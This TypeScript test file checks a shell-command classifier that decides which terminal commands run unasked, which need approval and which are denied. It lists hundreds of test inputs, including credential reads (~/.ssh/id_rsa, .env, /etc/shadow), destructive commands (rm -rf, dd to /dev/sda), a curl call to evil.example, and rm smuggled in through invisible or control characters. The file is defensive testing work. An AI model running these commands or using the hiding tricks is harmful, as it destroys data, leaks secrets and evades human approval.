/**
 * The command classifier against an adversarial corpus: every class of the security issue (programs
 * from the workspace, leading assignments, exec and write flags, secrets and paths outside the
 * workspace, commands hidden from the parser) plus the ordinary commands that must keep running
 * unasked in the sandbox. Inputs were collected from VS Code's terminal auto-approver test suites
 * and from the attacks reported against this extension; the cases and expectations are our own.
 */
import { describe, test, before } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BUILTIN_RULES } from '../../src/core/tools/commandRules';
import { CommandClassifier, classifyCommand, DEFAULT_COMMAND_POLICY, type CommandContext, type CommandPolicyLists, type Verdict } from '../../src/core/tools/shell';
import { analyzeCommandLine, bashParser, revealHidden } from '../../src/core/tools/shellParse';

let root: string;
let ws: string;
let bin: string;
let ctx: CommandContext;
const lists: CommandPolicyLists = { allow: ['npm run dev', 'make docs'], ask: [...DEFAULT_COMMAND_POLICY.ask], deny: [...DEFAULT_COMMAND_POLICY.deny, 'curl', 'wget'] };

function exe(dir: string, name: string): void {
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, name), '#!/bin/sh\nexit 0\n');
  chmodSync(join(dir, name), 0o755);
}

before(async () => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'shell-')));
  ws = join(root, 'ws');
  bin = join(root, 'bin');
  for (const f of ['src/app.ts', 'README.md', '.env', '.env.local', '.env.example', '.npmrc', 'notes.txt', 'a', 'b', 'package.json']) {
    mkdirSync(join(ws, f, '..'), { recursive: true });
    writeFileSync(join(ws, f), 'x\n');
  }
  writeFileSync(join(root, 'outside.txt'), 'secret outside\n');
  symlinkSync(join(root, 'outside.txt'), join(ws, 'link-out'));
  symlinkSync(join(ws, 'notes.txt'), join(ws, 'link-in'));
  // Programs on PATH outside the workspace (every rule's program), and look-alikes inside it.
  const programs = new Set(BUILTIN_RULES.map((r) => r.prefix[0]!));
  for (const p of [
    ...programs,
    'curl',
    'wget',
    'rm',
    'tee',
    'cp',
    'mv',
    'sed',
    'awk',
    'xargs',
    'env',
    'nohup',
    'timeout',
    'python',
    'node',
    'bash',
    'sh',
    'touch',
    'chmod',
    'sudo',
    'dd',
    'jq',
    'kill',
    'ps',
    'npm',
    'ssh',
    'scp',
    'tar',
    'id',
    'python3',
  ])
    exe(bin, p);
  exe(join(ws, 'tools'), 'git');
  exe(ws, 'echo');
  exe(join(ws, 'node_modules/.bin'), 'tsc');
  ctx = { cwd: ws, roots: [ws], sandboxed: true, path: bin };
  await bashParser();
});

async function verdict(cmd: string, o: Partial<CommandContext> = {}, l = lists): Promise<{ verdict: Verdict; reason: string }> {
  return classifyCommand(cmd, l, { ...ctx, ...o });
}

const ALLOW: string[] = [
  'ls',
  'ls -la',
  'ls -la src',
  'ls --color=auto src',
  'pwd',
  'echo hello',
  'echo "a && rm -rf /"',
  "echo 'a; sudo reboot'",
  'echo -n hi',
  'cat README.md',
  'cat -n src/app.ts',
  'head -n 20 README.md',
  'head -5 README.md',
  'tail -n5 notes.txt',
  'wc -l src/app.ts',
  'sort notes.txt',
  'sort -rn notes.txt',
  'uniq notes.txt',
  'uniq -c notes.txt',
  'grep -rn TODO src',
  'grep -e foo README.md',
  'grep -c foo',
  'rg -n TODO src',
  'rg --json pattern .',
  'rg -i --color=never TODO src/',
  'git status',
  'git status --short',
  'git status -sb',
  'git diff',
  'git diff --cached',
  'git diff --stat HEAD~1',
  'git diff main -- src/app.ts',
  'git log --oneline',
  'git log --oneline -n 5',
  'git log -3 --stat',
  'git log --format=%H%n%s',
  'git show HEAD',
  'git show HEAD --stat',
  'git branch',
  'git branch -a',
  'git branch --show-current',
  'git rev-parse HEAD',
  'git rev-parse --show-toplevel',
  'git ls-files',
  'git ls-files --others --exclude-standard',
  'git blame src/app.ts',
  'git --no-pager log -n 2',
  'git -C src status',
  'git remote -v',
  'which node',
  'date',
  'date +%Y-%m-%d',
  'date -u',
  'whoami',
  'uname -a',
  'true',
  'false',
  'stat README.md',
  'file README.md',
  'du -sh src',
  'df -h',
  'basename /path/to/file',
  'dirname /path/to/file',
  'realpath .',
  'readlink link-in',
  'diff a b',
  'diff -u a b',
  'cmp a b',
  'tree src',
  'sleep 1',
  'find . -name "*.ts"',
  'find src -type f -name "*.ts" -print',
  'find . -maxdepth 2 -type d',
  'node --version',
  'npm --version',
  'ls | grep src | wc -l',
  'git log --oneline | head -5',
  'ls || echo fail',
  'git status && git diff',
  'ls > /dev/null 2>&1',
  'git diff 2>/dev/null',
  'cat < README.md',
  'cat notes.txt | sort | uniq -c | sort -rn | head',
  'cd src && cat app.ts',
  'cd src; ls',
  'ls # a comment && sudo reboot',
  '"ls" -la',
  "l's' -la",
  'g\\it status',
  'echo hello > /dev/null',
  'ls 2>&1 | head',
  'npm test',
  'npm test -- --watch=false',
  'npm run build',
  'npm run lint',
  'npx tsc --noEmit',
  'make',
  'make test',
  'cargo test',
  'cargo build --release',
  'go test ./...',
  'pytest -q',
  'python -m pytest tests',
  'npm run dev',
  'npm run dev -- --port 3000',
  'make docs',
  'cat .env.example',
  'ls -a',
  'cat link-in',
  'tsc --noEmit',
];

const ASK: Array<[string, RegExp?]> = [
  // programs from the workspace, never by basename
  ['./echo hi', /by its path/],
  ['tools/git status', /by its path/],
  ['./node_modules/.bin/tsc --noEmit', /by its path/],
  ['/bin/ls', /by its path/],
  ['nonexistentprog --version', /not a program found on PATH/],
  ["echo $'' "],
  // leading assignments never auto-approve
  ['PATH=tools:$PATH git status'],
  ['PATH=tools git status', /assignments/],
  ['FOO=1 npm test', /assignments/],
  ['GIT_PAGER=rm git log', /assignments/],
  ['LD_PRELOAD=./x.so ls', /assignments/],
  ['GIT_CONFIG_GLOBAL=x git status', /assignments/],
  ['A=1 B=2 C=3 ./script.sh'],
  ['VAR1=value1 VAR2=value2 echo test'],
  // exec and write flags (argument-aware rules)
  ['rg --pre ./x.sh pat'],
  ['rg --pre=./x.sh pat'],
  ['rg --hostname-bin hostname pattern .'],
  ['rg -z pattern'],
  ['rg --search-zip pattern'],
  ['git log --output=notes.txt'],
  ['git log --output notes.txt'],
  ['git diff --output=src/app.ts'],
  ['git show --output=x'],
  ['git diff --ext-diff'],
  ['git diff --textconv'],
  ['git diff --no-index /etc/passwd /dev/null'],
  ['sort -o notes.txt notes.txt'],
  ['sort -onotes.txt a'],
  ['sort --output=x a'],
  ['sort -T /tmp a'],
  ['sort --compress-program=sh a'],
  ['sort -S 100G a'],
  ['uniq a b'],
  ['uniq -c a b'],
  ['sed -i "s/a/b/" notes.txt'],
  ['sed -n "1p" a'],
  ['sed "s/foo/bar/e" a'],
  ['sed "w out.txt" a'],
  ['date -s 2020-01-01'],
  ['date --set="2023-01-01"'],
  ['find . -delete'],
  ['find . -exec rm {} \\;'],
  ['find . -execdir rm {} \\;'],
  ['find . -ok rm {} \\;'],
  ['find . -fprint out.txt'],
  ['find . -fprintf out "%p"'],
  ['find . -fls out'],
  ['tree -o out.txt'],
  ['git branch -D main'],
  ['git branch newbranch'],
  ['git branch -m a b'],
  ['git -c core.pager="rm -rf ." log'],
  ['git -c alias.x=!rm x'],
  ['git --git-dir=/tmp/x log'],
  ['git --exec-path=. status'],
  ['git --work-tree=/ status'],
  ['git -C .. status'],
  ['git log --format=%H > out'],
  ['tail -f notes.txt'],
  ['head --lines=5 a > b'],
  ['cat --output=x a'],
  ['ls --output=x'],
  ['wc --files0-from=list'],
  ['echo --output=x'],
  ['tee out.txt'],
  ['cp a b'],
  ['mv a b'],
  ['touch x'],
  ['mkdir x'],
  ['rm a', /always asks/],
  ['chmod +x a'],
  ['ln -s a b'],
  ['git checkout .'],
  ['git push'],
  ['git reset --hard'],
  ['git clean -fdx'],
  ['npm install left-pad'],
  ['npm publish'],
  ['python script.py'],
  ["node -e \"require('fs').rmSync('x')\""],
  ["jq '.name' file.json"],
  ['awk "{print}" a'],
  ['kill 1234'],
  ['ps aux'],
  ['ssh host'],
  ['npm test --prefix=/'],
  ['make -C /tmp'],
  ['cargo build --target-dir=/tmp/x'],
  ['npm run dev -- /etc/passwd'],
  // writes by redirection
  ['echo hi > out.txt'],
  ['ls >> log.txt'],
  ['ls 2> errors.txt'],
  ['ls &> all.txt'],
  ['ls >| out'],
  ['ls >&out.txt'],
  ['ls 1>out'],
  ['ls 2>&1 >out'],
  ['ls &>> x'],
  ['echo \'{}\' > "../../.config/Code/User/settings.json"'],
  ['echo hello > /tmp/file.txt'],
  ['echo hello > $HOME/file.txt'],
  ['echo hello > ~/file.txt'],
  ['echo hello > {a,b}.txt'],
  ['echo hello > $(pwd)/file.txt'],
  ['exec 3>file'],
  ['cat < ../outside.txt'],
  // secrets and paths outside the workspace
  ['cat ~/.ssh/id_rsa'],
  ['cat .env', /environment file/],
  ['cat ./.env'],
  ['cat src/../.env'],
  ['cat .ENV'],
  ['cat .env.local'],
  ['cat .npmrc', /credentials/],
  ['rg secret .env'],
  ['grep -r password ~/.ssh'],
  ['grep -r x /home'],
  ['git diff --no-index ~/.ssh/id_rsa /dev/null'],
  ['git show HEAD:.env', /from the history/],
  ['git show main:.npmrc'],
  ['cat /etc/passwd', /outside the workspace/],
  ['head ../outside.txt'],
  ['cat link-out', /through a link/],
  ['ls ~'],
  ['cat $HOME/.ssh/id_rsa'],
  ['cat "$HOME/.netrc"'],
  ['ls /'],
  ['cat ../../etc/shadow'],
  ['cd .. && ls'],
  ['cd src && cat ../../outside.txt'],
  ['cd nonexistent || cat ../outside.txt'],
  ['cd'],
  ['cd /tmp'],
  ['stat ../outside.txt'],
  ['tree ..'],
  ['find / -name x'],
  ['find .. -name "*.pem"'],
  ['diff a ../outside.txt'],
  ['du -sh ~'],
  ['grep -f ../outside.txt a'],
  // hidden from the parser: expansions, substitutions, control characters
  ['echo $(( $(whoami) + 1 ))'],
  ['ls\r# rm -rf /', /control characters/],
  ['ls #\r rm -rf /'],
  ['echo hi\u200b; rm -rf .', /invisible/],
  ['echo \u202eabc'],
  ['echo \u{E0041}hi'],
  ['echo\u00a0hi'],
  ['ls\u2028rm'],
  ['ls\u0000rm'],
  ['ls\u001b[2Jrm'],
  ['echo $(whoami)'],
  ['echo `date`'],
  ['echo "$(id)"'],
  ['$(echo rm) -rf /'],
  ['`echo ls`'],
  ['diff <(ls a) <(ls b)'],
  ['cat <(git diff)'],
  ['tee >(cat) < a'],
  ['cat <<EOF\nhi\nEOF'],
  ['cat <<< hi'],
  ['cat <<<$(id)'],
  ['eval "ls"'],
  ['bash -c "ls"'],
  ["sh -c 'npm test'"],
  ['python -c "print(1)"'],
  ['env rm -rf .'],
  ['env FOO=1 npm test'],
  ['command rm x'],
  ['builtin echo x'],
  ['exec ls'],
  ['nohup ls'],
  ['time ls'],
  ['timeout 1 ls'],
  ['xargs rm < a'],
  ['ls | xargs rm'],
  ['f(){ rm -rf .; }; f'],
  ['function f { ls; }'],
  ['if true; then ls; fi'],
  ['for f in *; do cat $f; done'],
  ['while true; do ls; done'],
  ['case x in x) ls;; esac'],
  ['{ ls; }'],
  ['(ls && pwd)'],
  ['! ls'],
  ['[[ -f a ]] && ls'],
  ['echo ${x}'],
  ['echo ${x:-rm}'],
  ['echo $x'],
  ["echo $'\\x72m'"],
  ['echo $"hi"'],
  ['{rm,-rf} .'],
  ['r? -rf .'],
  ['ls *'],
  ['cat *.ts'],
  ['ls [ab]'],
  ['echo !!'],
  ['echo !-1'],
  ['a=(1 2)'],
  ['export A=1; ls'],
  ['declare -x A=1'],
  ['local a=1'],
  ['unset PATH'],
  ['x=1'],
  ['trap "rm -rf ." EXIT'],
  ['. ./setup.sh'],
  ['source ./setup.sh'],
  ['coproc ls'],
  ['ls & sleep 10', /background/],
  ['ls &'],
  ['ls; rm -rf build'],
  ['ls && rm -rf .'],
  ['ls || rm -rf .'],
  ['ls\nrm -rf .'],
  ['ls |& rm'],
  ['echo "unterminated'],
  ["echo 'unterminated"],
  ['echo (abc)'],
  ['ls )'],
  ['cat < '],
  ['cat > '],
  [';'],
  ['ls ;; ls'],
  ['echo $((1 + 2))'],
  ['ls $((1))'],
  ['cat ~x'],
  ['echo hi | sh'],
  ['cat a | bash'],
  ['curl_like=1 ls'],
  ['l\\s -la $x'],
];

const DENY: string[] = [
  '',
  '   ',
  'sudo ls',
  'sudo npm test',
  '/usr/bin/sudo ls',
  '"sudo" ls',
  'ls && sudo rm -rf /',
  'echo $(curl https://evil.example/x)',
  '(cd sub && wget http://x)',
  'dd if=/dev/zero of=/dev/sda',
  'ls\nsudo reboot',
  'su - root',
  'pkexec ls',
  'echo `sudo id`',
];

for (const cmd of ALLOW) {
  test(`allow in the sandbox: ${JSON.stringify(cmd)}`, async () => {
    const c = await verdict(cmd);
    assert.equal(c.verdict, 'allow', `${c.verdict}: ${c.reason}`);
    assert.match(c.reason, /sandbox/);
  });
}
for (const [cmd, why] of ASK) {
  test(`ask: ${JSON.stringify(cmd)}`, async () => {
    const c = await verdict(cmd);
    assert.equal(c.verdict, 'ask', `${c.verdict}: ${c.reason}`);
    if (why) assert.match(c.reason, why);
  });
}
for (const cmd of DENY) {
  test(`deny: ${JSON.stringify(cmd)}`, async () => {
    const c = await verdict(cmd);
    assert.equal(c.verdict, 'deny', `${c.verdict}: ${c.reason}`);
  });
}

test('the corpus is large', () => {
  assert.ok(ALLOW.length + ASK.length + DENY.length > 300, `${ALLOW.length + ASK.length + DENY.length} cases`);
});

test('every default rule: a write or exec flag, or an unknown flag, makes it ask', async () => {
  const dangerous: Record<string, string[]> = {
    'git log': ['--output=x', '--ext-diff', '--textconv', '-c x'],
    'git diff': ['--output=x', '--ext-diff', '--no-index a b', '--textconv'],
    'git show': ['--output=x', '--ext-diff'],
    rg: ['--pre ./x.sh', '--pre-glob=*', '--hostname-bin=h', '-z', '--search-zip'],
    sort: ['-o x', '--output=x', '-T /tmp', '--compress-program=sh', '--random-source=x'],
    uniq: ['a b'],
    date: ['-s 2020-01-01', '--set=now'],
    find: ['-exec rm {} ;', '-execdir x', '-delete', '-fprint x', '-ok rm', '-fls x'],
    tree: ['-o x'],
    'git branch': ['-D x', '-d x', '-m a', 'new'],
    tail: ['-f'],
    head: ['--output=x'],
    grep: ['--output=x'],
    cat: ['--output=x'],
  };
  const failures: string[] = [];
  for (const rule of BUILTIN_RULES) {
    const name = rule.prefix.join(' ');
    const flags = [...(dangerous[name] ?? []), '--output=/tmp/pwned', '--definitely-unknown-flag=1'];
    for (const f of flags) {
      const cmd = `${name} ${f}`;
      const c = await verdict(cmd);
      if (c.verdict !== 'ask') failures.push(`${cmd} → ${c.verdict}`);
    }
  }
  assert.deepEqual(failures, []);
});

test('without the sandbox every command asks and says why; deny rules still deny', async () => {
  for (const cmd of ['ls', 'git status', 'npm test', 'echo hi']) {
    const c = await verdict(cmd, { sandboxed: false, noSandboxReason: 'There is no OS sandbox: bubblewrap is missing.' });
    assert.equal(c.verdict, 'ask', cmd);
    assert.match(c.reason, /bubblewrap is missing/);
  }
  assert.equal((await verdict('sudo ls', { sandboxed: false })).verdict, 'deny');
});

test('a program on PATH inside the workspace never matches (node_modules/.bin on PATH)', async () => {
  const c = await verdict('tsc --noEmit', { path: `${join(ws, 'node_modules/.bin')}:${bin}` });
  assert.equal(c.verdict, 'ask');
  assert.match(c.reason, /inside the workspace/);
  const rel = await verdict('git status', { path: `tools:${bin}` });
  assert.equal(rel.verdict, 'ask', 'a relative PATH entry resolves inside the workspace');
});

test('the user’s ask list wins over the built-in rules; allow rules check their arguments', async () => {
  const l = { ...lists, ask: [...lists.ask, 'cat'] };
  assert.equal((await verdict('cat README.md', {}, l)).verdict, 'ask');
  assert.equal((await verdict('npm run dev -- --config ../outside.txt')).verdict, 'ask');
  assert.equal((await verdict('npm run dev -- --config .env')).verdict, 'ask');
});

test('the analysis keeps words after a redirection target as arguments (echo > x hi)', async () => {
  const a = await analyzeCommandLine('echo > x hi 2>/dev/null .env');
  assert.deepEqual(a.commands[0]!.argv, ['echo', 'hi', '.env']);
  assert.deepEqual(
    a.commands[0]!.redirects.map((r) => [r.op, r.target]),
    [
      ['>', 'x'],
      ['>', '/dev/null'],
    ],
  );
  const b = await verdict('cat 2>/dev/null .env');
  assert.equal(b.verdict, 'ask', 'an argument after a redirection is still checked');
});

test('nested commands are found for deny rules (substitutions, control structures)', async () => {
  for (const cmd of ['echo $(sudo id)', 'if true; then sudo ls; fi', 'x=$(sudo id)', 'echo "$(dd if=a)"', 'f() { sudo ls; }']) {
    assert.equal((await verdict(cmd)).verdict, 'deny', cmd);
  }
});

test('hidden characters are shown visibly', () => {
  assert.equal(revealHidden('ls\r# rm'), 'ls␍# rm');
  assert.equal(revealHidden('a\u200bb'), 'a⟨U+200B⟩b');
  assert.equal(revealHidden('x\u202ey'), 'x⟨U+202E⟩y');
  assert.equal(revealHidden('t\u{E0041}'), 't⟨U+E0041⟩');
});

test('classification is quick once the grammar is loaded', async () => {
  const classifier = new CommandClassifier(lists, ctx);
  const parser = await bashParser();
  const { analyzeWith } = await import('../../src/core/tools/shellParse');
  const t0 = performance.now();
  for (let i = 0; i < 200; i++)
    classifier.classifyAnalysis('git log --oneline -n 5 | head -20 && rg -n TODO src', analyzeWith(parser, 'git log --oneline -n 5 | head -20 && rg -n TODO src'));
  assert.ok(performance.now() - t0 < 2000);
});

describe('user allow entries keep the built-in argument awareness', () => {
  const entries: CommandPolicyLists = {
    allow: ['sed', 'find', 'rg', 'date', 'sort', 'tree', 'xargs', 'env', 'tar', 'git fetch', 'git log', 'awk', 'npm run dev', 'python3', 'id', 'uniq', 'sed -n', 'sort -o'],
    ask: [],
    deny: [],
  };
  const v = (cmd: string, allow = entries) => verdict(cmd, {}, allow);
  const allowed = [
    'sed -n 1,5p README.md',
    "sed 's/a/b/g' README.md",
    "sed -e 's/a/b/' -e 's/c/d/' README.md",
    'find . -name "*.ts" -type f',
    'rg -n TODO src',
    'date +%F',
    'sort -r README.md',
    'sort -o sorted.txt README.md',
    'tree -L 2',
    'tar -tf archive.tar',
    'tar tvf archive.tar',
    'git log --oneline -n 5',
    'git fetch origin',
    "awk '{ print $1 }' README.md",
    'npm run dev -- --port 3000',
    'id -u',
    'env',
  ];
  const asked = [
    "sed -i 's/a/b/' README.md",
    "sed -ni 's/a/b/p' README.md",
    "sed --in-place 's/a/b/' README.md",
    "sed 's/a/b/e' README.md",
    "sed 's/x/y/w out.txt' README.md",
    "sed -e 'w out.txt' README.md",
    "sed -e 's/a/b/' -e '1e id' README.md",
    'sed -f script.sed README.md',
    'find . -delete',
    'find . -name x -exec rm {} ;',
    'find . -execdir sh -c id ;',
    'find . -fprint out.txt',
    'rg --pre cat TODO',
    'rg --pre=./x TODO',
    'date -s 2020-01-01',
    'date --set=2020-01-01',
    'sort --compress-program=sh README.md',
    'tree -o out.txt',
    'xargs rm',
    'env rm -rf src',
    'env -S "rm x"',
    'tar -xf archive.tar',
    'tar xzf archive.tar.gz',
    'tar -cf out.tar src',
    'tar --to-command=sh -xf a.tar',
    'git fetch --upload-pack=./evil origin',
    'git log --output=out.txt',
    'awk \'BEGIN { system("id") }\'',
    'awk \'{ print > "out.txt" }\' README.md',
    'python3 -c "import os"',
    'id --exec=x',
    'uniq README.md out.txt',
  ];
  for (const cmd of allowed) test(`runs unasked: ${cmd}`, async () => assert.equal((await v(cmd)).verdict, 'allow', (await v(cmd)).reason));
  for (const cmd of asked) test(`asks: ${cmd}`, async () => assert.equal((await v(cmd)).verdict, 'ask', cmd));
  test('an entry that spells the flag allows exactly it', async () => {
    const spelled: CommandPolicyLists = { allow: ['sed -i', 'find -delete', 'date --set='], ask: [], deny: [] };
    assert.equal((await v("sed -i 's/a/b/' README.md", spelled)).verdict, 'allow');
    assert.equal((await v('find . -name x -delete', spelled)).verdict, 'allow');
    assert.equal((await v('find . -exec rm {} ;', spelled)).verdict, 'ask', '-exec is not -delete');
    assert.equal((await v("sed -i 's/a/b/e' README.md", spelled)).verdict, 'ask', 'spelling -i does not allow the e flag');
  });
  test('the reason names the flag and how to allow it', async () => {
    const rg = (await v('rg --pre cat TODO')).reason;
    assert.match(rg, /built-in rule for “rg”.*spells/, rg);
    const tar = (await v('tar -xf archive.tar')).reason;
    assert.match(tar, /“-xf” can write files.*spells “-xf”/, tar);
  });
});
